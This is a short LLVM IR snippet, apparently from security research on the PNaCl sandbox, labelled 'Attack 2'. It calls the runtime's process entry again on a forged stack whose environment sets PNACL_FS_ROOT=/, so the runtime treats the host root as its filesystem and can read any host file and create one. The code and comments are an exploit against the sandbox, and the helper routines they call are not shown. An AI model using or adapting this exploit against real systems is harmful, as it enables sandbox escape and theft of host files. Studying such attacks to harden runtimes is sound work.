; Attack 2: the runtime's process entry called again, on a forged initial stack whose
; environment holds PNACL_FS_ROOT=/: the runtime takes / as the root, runs this _start
; again, and the IRT's own open reads any host file.
; argv: [1] the address of the process entry (__pnacl_main), [2] a host file to steal and
; [3] a host file to create, both relative to /.
define void @_start(i32 %info) {
entry:
  call void @init(i32 %info)
  %two = call i32 @stage_two()
  %s1 = call i32 @arg(i32 1)
  %main.addr = call i32 @parse(i32 %s1)
  %main = inttoptr i32 %main.addr to void (i32)*
  %mem = alloca i8, i32 512, align 16
  %m = ptrtoint i8* %mem to i32
  %sp = call i32 @forge_stack(i32 %m)
  call void %main(i32 %sp)
  call void @exit(i32 3)
  unreachable
}
